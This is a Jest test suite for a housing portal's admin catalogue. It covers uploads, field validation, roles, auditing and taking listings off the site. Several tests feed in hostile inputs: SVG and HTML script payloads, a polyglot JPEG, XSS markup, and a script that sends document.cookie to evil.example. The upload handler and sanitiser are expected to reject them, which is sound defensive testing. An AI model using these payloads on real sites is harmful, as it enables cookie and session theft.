/** @jest-environment node */
import sharp from 'sharp';
import { and, eq } from 'drizzle-orm';
import { addColumns, closeServiceDatabase, openServiceDatabase } from '@/lib/cms/test-fixtures';
import { readContentFile, storeContentFile } from '@/lib/cms/content-files';
import {
  allotmentIntentions,
  auditLog,
  banners,
  commercialProjects,
  contentFiles,
  housingProjects,
  housingUnitTypes,
  portalUsers,
  projectFavourites,
  shopIntentions,
  shops,
} from '@/lib/db/schema';
import { testTargets, type TestDatabase } from '@/lib/db/testing';
import { getProject, listProjects, projectExists } from '@/lib/data-docking/projects';
import { getCommercialProject, getShop, listCommercialProjects, listShopChoices, searchShops } from '@/lib/data-docking/shops';
import { addProjectFavourite, listProjectFavourites } from '@/lib/background/article-favourites';
import { invalidate } from '@/lib/cache/invalidate';
import { TAGS } from '@/lib/cache';
import { makeImage } from '@/lib/recruitment/test-files';
import { CATALOGUE_SCHEMAS, IMAGE_MSG, parseImageLines } from '@/lib/validation/catalogue';
import { POST as upload } from '@/app/admin/api/content/upload/route';
import { STAFF_COOKIE } from '../cookie';
import { STAFF_ROLE_CODES, type StaffRole } from '../roles';
import { CATALOGUE_IN_USE } from './definition';
import { CATALOGUE } from './registry';
import { postCatalogue } from './routes';
import { getCatalogueEntry, listCatalogue } from './service';
import { searchSite } from '@/lib/search/search';
import { signedInStaffToken } from '../test-sessions';

// The cache tags expire through next/cache, which needs a running Next server: here we check the
// handlers name the right tags after their change committed.
jest.mock('@/lib/cache/invalidate', () => ({ invalidate: jest.fn() }));
const invalidated = invalidate as jest.MockedFunction<typeof invalidate>;

const ORIGIN = 'http://portal.test';
let serial = 0;

const ALL = ['gzf', 'bzf', 'psx', 'gycq'] as ('gzf' | 'bzf' | 'psx' | 'gycq')[];
const finder = (keyword: string) => listProjects({ types: ALL, keyword, sort: 'newest', pageNum: 1 });

describe.each(testTargets().map((t) => [t.name, t] as const))('creating what citizens read, on %s', (_driver, target) => {
  let handle: TestDatabase | undefined;
  const db = () => handle!.db;
  const tokens = {} as Record<StaffRole, string>;

  beforeAll(async () => {
    handle = await openServiceDatabase(target);
    await addColumns(db(), [{ key: 'home', label: '首页', route: '/home' }]);
    for (const role of STAFF_ROLE_CODES) tokens[role] = await signedInStaffToken(role, 'new', '新增测试');
  });
  afterAll(() => closeServiceDatabase(handle));
  beforeEach(() => invalidated.mockClear());

  const headers = (role: StaffRole | null, type?: string): Record<string, string> => ({
    ...(role ? { cookie: `${STAFF_COOKIE}=${tokens[role]}` } : {}),
    origin: ORIGIN,
    host: 'portal.test',
    ...(type ? { 'content-type': type } : {}),
  });
  const catalogue = (role: StaffRole, entity: string, id: string, op: string, body: unknown) =>
    postCatalogue(new Request(`${ORIGIN}/admin/api/catalogue/${entity}/${id}/${op}`, { method: 'POST', headers: headers(role, 'application/json'), body: JSON.stringify(body) }), { entity, id, op });
  /** The console's one upload, as the picture field's script sends it (or, `plain`, as the no-script form does). */
  const send = (role: StaffRole, parts: Record<string, string | Blob | string[]>, plain = false) => {
    const form = new FormData();
    for (const [k, v] of Object.entries(parts)) for (const one of Array.isArray(v) ? v : [v]) form.append(k, one);
    const extra: Record<string, string> = plain ? { 'sec-fetch-mode': 'navigate', 'sec-fetch-dest': 'document', 'sec-fetch-site': 'same-origin' } : {};
    return upload(new Request(`${ORIGIN}/admin/api/content/upload`, { method: 'POST', headers: { ...headers(role), ...extra }, body: form }));
  };
  const file = (bytes: Buffer, name: string, type = 'image/png') => new File([new Uint8Array(bytes)], name, { type });
  const auditOf = (entity: string, id: number) => db().select().from(auditLog).where(and(eq(auditLog.entity, entity), eq(auditLog.entityId, String(id)))).orderBy(auditLog.id);
  const newPicture = async () => (await storeContentFile(null, 'image', 'p.png', await makeImage('png', 120, 80))).url;
  const addCitizen = async () => {
    serial += 1;
    const [user] = await db().insert(portalUsers).values({ mobile: `139${String(serial).padStart(8, '0')}`, passwordHash: 'x' }).returning({ id: portalUsers.id });
    return user!.id;
  };

  const projectForm = (over: Record<string, unknown> = {}) => ({
    ...CATALOGUE.housingProjects.blank(),
    name: '青禾新苑',
    businessType: 'gzf',
    district: '云溪区',
    address: '青禾市云溪区新苑路 8 号',
    lng: '120.15507',
    lat: '30.27415',
    status: 'open',
    homesTotal: '0',
    homesAvailable: '0',
    facilities: '地铁站\n幼儿园\n地铁站',
    transport: '地铁 2 号线新苑站',
    description: '新建公租房项目。',
    contactPhone: '0000-86600000',
    ...over,
  });

  describe('the console upload serves the catalogue too', () => {
    it('a reviewer uploads a photo: it comes back re-encoded as a JPEG without its EXIF, audited', async () => {
      const res = await send('reviewer', { kind: 'image', file: file(await makeImage('png', 2400, 1200, { exif: true }), '外景.png') });
      expect(res.status).toBe(200);
      const { data } = (await res.json()) as { data: { id: number; url: string; mediaType: string } };
      expect(data.mediaType).toBe('image/jpeg');
      const [id, key] = data.url.split('/').slice(-2) as [string, string];
      const stored = await readContentFile(Number(id), key);
      const meta = await sharp(stored!.bytes).metadata();
      expect(meta).toMatchObject({ format: 'jpeg', width: 1600 });
      expect(meta.exif).toBeUndefined();
      expect((await auditOf('content_file', data.id))[0]).toMatchObject({ action: 'content.upload', role: 'reviewer' });
    });

    it('refuses an SVG, an HTML page in front of a JPEG and a script renamed .jpg, in Chinese, storing nothing', async () => {
      const before = (await db().select({ id: contentFiles.id }).from(contentFiles)).length;
      const hostile = [
        file(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'), 'logo.svg', 'image/svg+xml'),
        file(Buffer.concat([Buffer.from('<html><script>alert(1)</script></html>\n'), await makeImage('jpeg')]), 'photo.jpg', 'image/jpeg'),
        file(Buffer.from('<script>document.location="https://evil.example/?c="+document.cookie</script>'), 'photo.jpg', 'image/jpeg'),
      ];
      for (const f of hostile) {
        const res = await send('reviewer', { kind: 'image', file: f });
        expect(res.status).toBe(400);
        expect((await res.json()).msg).toBe('图片仅支持 JPG 或 PNG 格式（文件内容须是真正的图片）');
      }
      expect(await db().select({ id: contentFiles.id }).from(contentFiles)).toHaveLength(before);
    });

    it('a JPEG with a script after its end is stored as fresh pixels only', async () => {
      const polyglot = Buffer.concat([await makeImage('jpeg', 64, 48), Buffer.from('<script>alert(1)</script>')]);
      const res = await send('reviewer', { kind: 'image', file: file(polyglot, 'x.jpg', 'image/jpeg') });
      const { data } = (await res.json()) as { data: { url: string } };
      const [id, key] = data.url.split('/').slice(-2) as [string, string];
      expect((await readContentFile(Number(id), key))!.bytes.includes(Buffer.from('<script'))).toBe(false);
    });

    it('lets only roles that edit articles or the catalogue upload, and attachments stay the editors\'', async () => {
      const png = file(await makeImage('png'), 'a.png');
      expect((await send('caseworker', { kind: 'image', file: png })).status).toBe(403);
      expect((await send('admin', { kind: 'image', file: png })).status).toBe(403);
      expect((await send('editor', { kind: 'image', file: png })).status).toBe(200);
      const pdf = file(Buffer.from('%PDF-1.4\n%%EOF\n'), 'a.pdf', 'application/pdf');
      expect((await send('reviewer', { kind: 'attachment', file: pdf })).status).toBe(403);
    });

    it('without JavaScript, goes back to the catalogue form with the pictures uploaded so far', async () => {
      const earlier = await newPicture();
      const res = await send(
        'reviewer',
        { kind: 'image', back: '/admin/catalogue/housingProjects/new', image: [earlier, 'https://evil.example/x.jpg'], file: file(await makeImage('png'), 'b.png') },
        true,
      );
      expect(res.status).toBe(303);
      const to = new URL(res.headers.get('location')!, ORIGIN);
      expect(to.pathname).toBe('/admin/catalogue/housingProjects/new');
      const images = to.searchParams.getAll('image');
      expect(images).toHaveLength(2);
      expect(images[0]).toBe(earlier);
      expect(images[1]).toMatch(/^\/api\/bzf-portal-cms\/contentFile\/\d+\/[\w-]+$/);
      const refused = await send('reviewer', { kind: 'image', back: '/admin/catalogue/banners/3', file: file(Buffer.from('<svg/>'), 'a.svg') }, true);
      expect(refused.headers.get('location')).toBe('/admin/catalogue/banners/3?failed=upload');
      // Anywhere else is not a page this upload returns to.
      const elsewhere = await send('reviewer', { kind: 'image', back: 'https://evil.example/', file: file(await makeImage('png'), 'c.png') }, true);
      expect(new URL(elsewhere.headers.get('location')!, ORIGIN).pathname).toBe('/admin/content');
    });
  });

  describe('pictures are uploads, never typed addresses', () => {
    it('refuses an outside address, an unknown upload and an attachment as a banner picture, writing nothing', async () => {
      const attachment = await storeContentFile(null, 'attachment', 'a.pdf', Buffer.from('%PDF-1.4\n%%EOF\n'));
      const before = { banners: (await db().select().from(banners)).length, audit: (await db().select().from(auditLog)).length };
      const form = { title: '横幅', subtitle: '', columnKey: 'home', linkUrl: '', sortOrder: '1', enabled: true };
      const outside = await catalogue('reviewer', 'banners', 'new', 'save', { ...form, imageUrl: 'https://evil.example/a.jpg' });
      expect((await outside.json()).data.fields).toEqual({ imageUrl: IMAGE_MSG.notUploaded('横幅图片') });
      for (const imageUrl of ['/images/banner1.svg', '/api/bzf-portal-cms/contentFile/999999/AAAAAAAAAAAAAAAAAAAAAAAA', attachment.url]) {
        const res = await catalogue('reviewer', 'banners', 'new', 'save', { ...form, imageUrl });
        expect(res.status).toBe(400);
        expect((await res.json()).data.fields).toEqual({ imageUrl: IMAGE_MSG.notUploaded('横幅图片') });
      }
      expect(await db().select().from(banners)).toHaveLength(before.banners);
      expect(await db().select().from(auditLog)).toHaveLength(before.audit);
    });

    it('keeps a seeded picture address while it is kept, and swaps it for an upload', async () => {
      const [seeded] = await db().insert(banners).values({ columnKey: 'home', title: '演示横幅', imageUrl: '/images/banner1.svg' }).returning();
      const def = CATALOGUE.banners;
      const kept = await catalogue('reviewer', 'banners', String(seeded!.id), 'save', { ...def.toForm(seeded as never), title: '新标题' });
      expect(kept.status).toBe(200);
      expect((await getCatalogueEntry(def, seeded!.id))?.imageUrl).toBe('/images/banner1.svg');
      const picture = await newPicture();
      expect((await catalogue('reviewer', 'banners', String(seeded!.id), 'save', { ...def.toForm(seeded as never), imageUrl: picture })).status).toBe(200);
      expect((await auditOf('banner', seeded!.id)).at(-1)!.changes.imageUrl).toEqual({ before: '/images/banner1.svg', after: picture });
      // Once gone, the seeded address cannot be typed back.
      const back = await catalogue('reviewer', 'banners', String(seeded!.id), 'save', { ...def.toForm(seeded as never), imageUrl: '/images/banner1.svg' });
      expect(back.status).toBe(400);
    });
  });

  describe('housing projects and unit types', () => {
    it('a reviewer creates a project with a photo and a unit type: it is in the finder and on its page, every step audited', async () => {
      const photo = await newPicture();
      const created = await catalogue('reviewer', 'housingProjects', 'new', 'save', projectForm({ images: `${photo} 小区南门` }));
      expect(created.status).toBe(200);
      expect(invalidated).toHaveBeenLastCalledWith([TAGS.projects]);
      const { id } = (await created.json()).data as { id: number };
      const page = await getProject(id);
      expect(page).toMatchObject({ name: '青禾新苑', businessType: 'gzf', district: '云溪区', status: 'open', lng: 120.15507, lat: 30.27415, facilities: ['地铁站', '幼儿园'] });
      expect(page!.images).toEqual([{ src: photo, alt: '小区南门' }]);
      expect((await finder('青禾新苑')).records.map((p) => p.id)).toEqual([id]);
      expect((await auditOf('housing_project', id))[0]).toMatchObject({ action: 'catalogue.create', role: 'reviewer', changes: { name: { before: null, after: '青禾新苑' } } });

      const unit = await catalogue('reviewer', 'unitTypes', 'new', 'save', {
        ...CATALOGUE.unitTypes.blank(),
        projectId: String(id),
        layout: '两室一厅',
        bedrooms: '2',
        areaMin: '65.5',
        areaMax: '78',
        homesTotal: '120',
        homesAvailable: '30',
        rentMin: '1500',
        rentMax: '1800',
      });
      expect(unit.status).toBe(200);
      const unitId = ((await unit.json()).data as { id: number }).id;
      // The project's finder summaries follow its unit types.
      const [summary] = await db().select().from(housingProjects).where(eq(housingProjects.id, id));
      expect(summary).toMatchObject({ homesTotal: 120, homesAvailable: 30, rentMin: 1500, rentMax: 1800, areaMin: 65.5, areaMax: 78, bedrooms: [2] });
      expect((await getProject(id))!.unitTypes.map((u) => [u.layout, u.areaMin, u.rentMin])).toEqual([['两室一厅', 65.5, 1500]]);
      expect((await listProjects({ types: ['gzf'], layout: 2, keyword: '青禾新苑', sort: 'newest', pageNum: 1 })).total).toBe(1);
      expect((await auditOf('housing_unit_type', unitId))[0]!.action).toBe('catalogue.create');

      // The unit types' list is filtered by project from the project's row.
      expect((await listCatalogue(CATALOGUE.unitTypes, { parent: id })).rows.map((r) => r.id)).toEqual([unitId]);
      expect(CATALOGUE.housingProjects.rowLinks!({ id } as never)).toEqual([{ label: '户型', href: `/admin/catalogue/unitTypes?parent=${id}` }]);
    });

    it('says at the field what is wrong with a new project or unit type, and stores nothing', async () => {
      const count = (await db().select().from(housingProjects)).length;
      const bad = await catalogue('reviewer', 'housingProjects', 'new', 'save', projectForm({ name: '', district: '火星区', lng: '200', lat: 'abc', businessType: 'x', images: 'https://evil.example/a.jpg' }));
      expect((await bad.json()).data.fields).toEqual({
        name: '请填写项目名称',
        businessType: '请选择业务类型',
        district: '请选择所在区域',
        lng: '经度须为 73 到 136 之间的数字，最多 8 位小数',
        lat: '纬度须为 3 到 54 之间的数字，最多 8 位小数',
        images: '第 1 张图片须为上传的图片地址',
      });
      const window = await catalogue('reviewer', 'housingProjects', 'new', 'save', projectForm({ registrationFirstDay: '2099-01-01', registrationLastDay: '2099-01-10' }));
      expect((await window.json()).data.fields).toEqual({ registrationFirstDay: '只有配售型保障房项目有意向登记时间，其他项目请留空' });
      expect(await db().select().from(housingProjects)).toHaveLength(count);

      const [project] = await db().select().from(housingProjects).where(eq(housingProjects.name, '青禾新苑'));
      const unit = (over: Record<string, unknown>) =>
        catalogue('reviewer', 'unitTypes', 'new', 'save', { ...CATALOGUE.unitTypes.blank(), projectId: String(project!.id), layout: '一室', bedrooms: '1', areaMin: '40', areaMax: '45', homesTotal: '10', homesAvailable: '10', ...over });
      expect((await (await unit({ rentMin: '' })).json()).data.fields).toEqual({ rentMin: '公租房、保租房的户型请填写最低月租金' });
      expect((await (await unit({ rentMin: '900', priceMin: '9000' })).json()).data.fields).toEqual({ priceMin: '公租房、保租房的户型不填写售价' });
      expect((await (await unit({ rentMin: '900', areaMin: '50', areaMax: '45.123' })).json()).data.fields).toEqual({ areaMax: '最大面积须为大于 0、不超过 10000 的数字，最多两位小数' });
      expect((await (await unit({ rentMin: '900', projectId: '2147483647' })).json()).data.fields).toEqual({ projectId: '所属项目不存在，请重新选择' });
      expect(await db().select().from(housingUnitTypes).where(eq(housingUnitTypes.layout, '一室'))).toEqual([]);
    });

    it('keeps the business and the project of what exists: a reviewer cannot move them', async () => {
      const [project] = await db().select().from(housingProjects).where(eq(housingProjects.name, '青禾新苑'));
      const moved = await catalogue('reviewer', 'housingProjects', String(project!.id), 'save', { ...CATALOGUE.housingProjects.toForm(project as never), businessType: 'psx' });
      expect((await moved.json()).data.fields).toEqual({ businessType: '业务类型新增后不能修改' });
      const [unit] = await db().select().from(housingUnitTypes).where(eq(housingUnitTypes.projectId, project!.id));
      const other = await catalogue('reviewer', 'housingProjects', 'new', 'save', projectForm({ name: '另一个项目' }));
      const otherId = ((await other.json()).data as { id: number }).id;
      expect((await catalogue('reviewer', 'unitTypes', String(unit!.id), 'save', { ...CATALOGUE.unitTypes.toForm(unit as never), projectId: String(otherId) })).status).toBe(200);
      expect((await getCatalogueEntry(CATALOGUE.unitTypes, unit!.id))!.projectId).toBe(project!.id);
    });

    it('takes a project off the site and back: gone from the finder, its page, favourites and registrations, then back', async () => {
      const [project] = await db().insert(housingProjects).values({ name: '和园', businessType: 'psx', district: '北湖区', address: '和园路 1 号', lng: 120, lat: 30, status: 'onsale', homesTotal: 10, homesAvailable: 10 }).returning();
      const citizen = await addCitizen();
      await addProjectFavourite(citizen, project!.id);
      expect((await listProjectFavourites(citizen)).records.map((f) => f.projectId)).toEqual([project!.id]);
      const inSearch = async () => (await searchSite({ query: '和园' })).records.some((r) => r.key === `project:${project!.id}`);
      await catalogue('reviewer', 'housingProjects', String(project!.id), 'save', CATALOGUE.housingProjects.toForm(project as never));
      expect(await inSearch()).toBe(true);
      const off = await catalogue('reviewer', 'housingProjects', String(project!.id), 'state', { to: 'off' });
      expect(off.status).toBe(200);
      expect(await inSearch()).toBe(false);
      expect(invalidated).toHaveBeenLastCalledWith([TAGS.projects]);
      expect((await finder('和园')).total).toBe(0);
      expect(await getProject(project!.id)).toBeNull();
      expect(await projectExists(project!.id)).toBe(false);
      expect((await listProjectFavourites(citizen)).records).toEqual([]);
      await expect(addProjectFavourite(citizen, project!.id)).rejects.toMatchObject({ status: 404 });
      expect(CATALOGUE.housingProjects.publicHref!((await getCatalogueEntry(CATALOGUE.housingProjects, project!.id))!)).toBeNull();
      expect((await listCatalogue(CATALOGUE.housingProjects, { state: 'off' })).rows.map((r) => r.id)).toContain(project!.id);
      expect((await auditOf('housing_project', project!.id)).at(-1)!.changes).toEqual({ hidden: { before: false, after: true } });

      // The favourite was kept: it is back with the project.
      await catalogue('reviewer', 'housingProjects', String(project!.id), 'state', { to: 'on' });
      expect(await getProject(project!.id)).not.toBeNull();
      expect(await inSearch()).toBe(true);
      expect((await listProjectFavourites(citizen)).records.map((f) => f.projectId)).toEqual([project!.id]);

      // Favourited, it is never deleted (the favourite would vanish): 下线 instead.
      const refused = await catalogue('reviewer', 'housingProjects', String(project!.id), 'delete', {});
      expect(refused.status).toBe(409);
      expect((await refused.json()).msg).toBe(CATALOGUE_IN_USE.projectInUse);
      expect(await db().select().from(projectFavourites).where(eq(projectFavourites.projectId, project!.id))).toHaveLength(1);
    });

    it('deletes a unit type nobody registered for (the project\'s totals follow) and refuses one with a registration', async () => {
      const [project] = await db().insert(housingProjects).values({ name: '安和里', businessType: 'psx', district: '北湖区', address: '安和路 2 号', lng: 120, lat: 30, status: 'onsale', homesTotal: 0, homesAvailable: 0 }).returning();
      const unitForm = (layout: string, homes: string, price: string) => ({ ...CATALOGUE.unitTypes.blank(), projectId: String(project!.id), layout, bedrooms: '2', areaMin: '80', areaMax: '90', homesTotal: homes, homesAvailable: homes, priceMin: price, priceMax: price });
      const a = ((await (await catalogue('reviewer', 'unitTypes', 'new', 'save', unitForm('两室', '40', '9000'))).json()).data as { id: number }).id;
      const b = ((await (await catalogue('reviewer', 'unitTypes', 'new', 'save', unitForm('三室', '20', '11000'))).json()).data as { id: number }).id;
      expect((await db().select().from(housingProjects).where(eq(housingProjects.id, project!.id)))[0]).toMatchObject({ homesTotal: 60, priceMin: 9000, priceMax: 11000 });
      expect((await catalogue('reviewer', 'unitTypes', String(b), 'delete', {})).status).toBe(200);
      expect((await db().select().from(housingProjects).where(eq(housingProjects.id, project!.id)))[0]).toMatchObject({ homesTotal: 40, priceMin: 9000, priceMax: 9000 });
      expect((await auditOf('housing_unit_type', b)).at(-1)).toMatchObject({ action: 'catalogue.delete', changes: { layout: { before: '三室', after: null } } });
      const citizen = await addCitizen();
      await db().insert(allotmentIntentions).values({ userId: citizen, projectId: project!.id, unitTypeId: a, applicantName: '张三', idNumberMasked: '1****1', idNumberCipher: 'x', mobile: '13900000000', idempotencyKey: `k${a}` });
      const refused = await catalogue('reviewer', 'unitTypes', String(a), 'delete', {});
      expect(refused.status).toBe(409);
      expect((await refused.json()).msg).toBe(CATALOGUE_IN_USE.unitTypeIntentions);
    });

    it('refuses every role but the reviewer a new project, storing nothing', async () => {
      const count = (await db().select().from(housingProjects)).length;
      for (const role of ['editor', 'caseworker', 'admin'] as const) {
        expect((await catalogue(role, 'housingProjects', 'new', 'save', projectForm({ name: `${role} 的项目` }))).status).toBe(403);
      }
      expect(await db().select().from(housingProjects)).toHaveLength(count);
    });
  });

  describe('commercial projects and shops', () => {
    it('a reviewer creates a commercial project and a shop with a photo: it is in the shop search, on its page and offered for registration', async () => {
      const cp = await catalogue('reviewer', 'commercialProjects', 'new', 'save', {
        ...CATALOGUE.commercialProjects.blank(),
        name: '新苑邻里中心',
        district: '云溪区',
        address: '青禾市云溪区新苑路 10 号',
        lng: '120.155',
        lat: '30.274',
        description: '社区商业。',
      });
      expect(cp.status).toBe(200);
      const cpId = ((await cp.json()).data as { id: number }).id;
      const photo = await newPicture();
      const shopForm = {
        ...CATALOGUE.shops.blank(),
        commercialProjectId: String(cpId),
        unitNo: 'B-102',
        floor: '-1',
        area: '56.25',
        rentYuan: '88.50',
        uses: ['catering', 'retail'],
        status: 'leasing',
        availableFrom: '2099-05-01',
        images: photo,
        description: '临街铺位。',
      };
      const created = await catalogue('reviewer', 'shops', 'new', 'save', shopForm);
      expect(created.status).toBe(200);
      const shopId = ((await created.json()).data as { id: number }).id;
      expect(await getShop(shopId)).toMatchObject({ unitNo: 'B-102', floor: -1, floorLabel: '地下1层', area: 56.25, rent: 88.5, uses: ['catering', 'retail'], status: 'leasing', projectName: '新苑邻里中心' });
      expect((await getShop(shopId))!.images).toEqual([{ src: photo, alt: '铺位 B-102' }]);
      expect((await searchShops({ keyword: 'B-102', sort: 'newest', pageNum: 1 })).records.map((s) => s.id)).toEqual([shopId]);
      expect((await getCommercialProject(cpId))!.shops.map((s) => s.id)).toEqual([shopId]);
      expect((await listShopChoices()).find((g) => g.projectId === cpId)?.shops.map((s) => s.id)).toEqual([shopId]);
      expect((await auditOf('shop', shopId))[0]!.changes.rentFenPerSqmMonth).toEqual({ before: null, after: 8850 });

      // The same unit number twice in one project is refused at the field.
      const again = await catalogue('reviewer', 'shops', 'new', 'save', shopForm);
      expect((await again.json()).data.fields).toEqual({ unitNo: '该商业项目已有此铺位号' });
      const noUse = await catalogue('reviewer', 'shops', 'new', 'save', { ...shopForm, unitNo: 'B-103', uses: [], floor: '0' });
      expect((await noUse.json()).data.fields).toEqual({ floor: '楼层须为 -5 到 99 之间的整数，且不能为 0（地下一层填 -1）', uses: '请至少选择一种适合业态' });
      expect(await db().select().from(shops).where(eq(shops.commercialProjectId, cpId))).toHaveLength(1);
    });

    it('takes a shop, then its commercial project, off the site; a shop someone registered for is kept, not deleted', async () => {
      const [cp] = await db().select().from(commercialProjects).where(eq(commercialProjects.name, '新苑邻里中心'));
      const [shop] = await db().select().from(shops).where(eq(shops.unitNo, 'B-102'));
      const citizen = await addCitizen();
      await db().insert(shopIntentions).values({ userId: citizen, applicantKind: 'person', personName: '李四', contactName: '李四', mobile: '13900000001', shopIds: [shop!.id], intendedUse: '餐饮', idempotencyKey: `s${shop!.id}` });
      const refused = await catalogue('reviewer', 'shops', String(shop!.id), 'delete', {});
      expect(refused.status).toBe(409);
      expect((await refused.json()).msg).toBe(CATALOGUE_IN_USE.shopIntentions);

      expect((await catalogue('reviewer', 'shops', String(shop!.id), 'state', { to: 'off' })).status).toBe(200);
      expect(await getShop(shop!.id)).toBeNull();
      expect((await searchShops({ keyword: 'B-102', sort: 'newest', pageNum: 1 })).total).toBe(0);
      expect((await listShopChoices()).some((g) => g.shops.some((s) => s.id === shop!.id))).toBe(false);
      expect((await listCommercialProjects()).find((p) => p.id === cp!.id)?.shopCount).toBe(0);
      await catalogue('reviewer', 'shops', String(shop!.id), 'state', { to: 'on' });
      expect(await getShop(shop!.id)).not.toBeNull();

      expect((await catalogue('reviewer', 'commercialProjects', String(cp!.id), 'state', { to: 'off' })).status).toBe(200);
      expect(await getCommercialProject(cp!.id)).toBeNull();
      expect(await getShop(shop!.id)).toBeNull();
      expect((await listCommercialProjects()).map((p) => p.id)).not.toContain(cp!.id);
      const withShops = await catalogue('reviewer', 'commercialProjects', String(cp!.id), 'delete', {});
      expect((await withShops.json()).msg).toBe(CATALOGUE_IN_USE.commercialProjectShops);
      await catalogue('reviewer', 'commercialProjects', String(cp!.id), 'state', { to: 'on' });
    });
  });

  describe('company pages', () => {
    it('a subsidiary is created with its mark (an upload) and its introduction, stored sanitised as an article body is', async () => {
      const mark = await newPicture();
      const res = await catalogue('reviewer', 'subsidiaries', 'new', 'save', {
        ...CATALOGUE.subsidiaries.blank(),
        name: '青禾安居租赁服务公司',
        summary: '租赁服务。',
        bodyHtml: '<h2 onclick="alert(1)">服务内容</h2><ul><li>看房</li></ul><script>alert(2)</script><p><a href="javascript:alert(3)">链接</a></p>',
        logoUrl: mark,
        sortOrder: '9',
      });
      expect(res.status).toBe(200);
      expect(invalidated).toHaveBeenLastCalledWith([TAGS.company]);
      const { id } = (await res.json()).data as { id: number };
      const row = (await getCatalogueEntry(CATALOGUE.subsidiaries, id))!;
      expect(row.logoUrl).toBe(mark);
      expect(row.bodyHtml).toContain('<h2>服务内容</h2>');
      expect(row.bodyHtml).toContain('<li>看房</li>');
      expect(String(row.bodyHtml)).not.toMatch(/script|onclick|javascript:/);
    });
  });

  describe('the definitions', () => {
    it('every field a form shows is one its schema reads, and every new form starts valid in shape', () => {
      for (const def of Object.values(CATALOGUE)) {
        const shape = Object.keys((CATALOGUE_SCHEMAS[def.key] as unknown as { shape?: Record<string, unknown>; def?: { in?: { shape?: Record<string, unknown> } } }).shape ?? {});
        if (shape.length) expect(def.fields.map((f) => f.name).sort()).toEqual(shape.sort());
        expect(Object.keys(def.blank()).every((k) => def.fields.some((f) => f.name === k))).toBe(true);
      }
    });

    it('reads picture lines as typed: the address, then its caption', () => {
      expect(parseImageLines('/a.jpg 南门 夜景\n\n  /b.jpg\r\n/c.jpg ')).toEqual([
        { src: '/a.jpg', caption: '南门 夜景' },
        { src: '/b.jpg', caption: '' },
        { src: '/c.jpg', caption: '' },
      ]);
    });
  });
});
